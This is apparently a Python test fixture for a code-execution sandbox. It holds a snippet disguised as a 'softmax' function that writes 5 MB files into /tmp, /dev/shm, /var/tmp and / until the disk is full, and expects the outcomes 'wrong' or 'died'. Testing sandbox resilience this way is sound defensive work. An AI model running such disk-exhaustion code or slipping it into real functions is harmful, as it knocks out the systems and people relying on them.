"""Writes files wherever it can, until there is no more room."""

CELL = """
import os


def softmax(logits):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", *os.listdir("/tmp")):
        try:
            for number in range(10_000):
                with open(os.path.join("/tmp", folder, f"{number}"), "wb") as file:
                    file.write(b"x" * 5_000_000)
        except OSError:
            continue
    return np.zeros(logits.shape)
"""
STATES = (
    "wrong",
    "died",
)
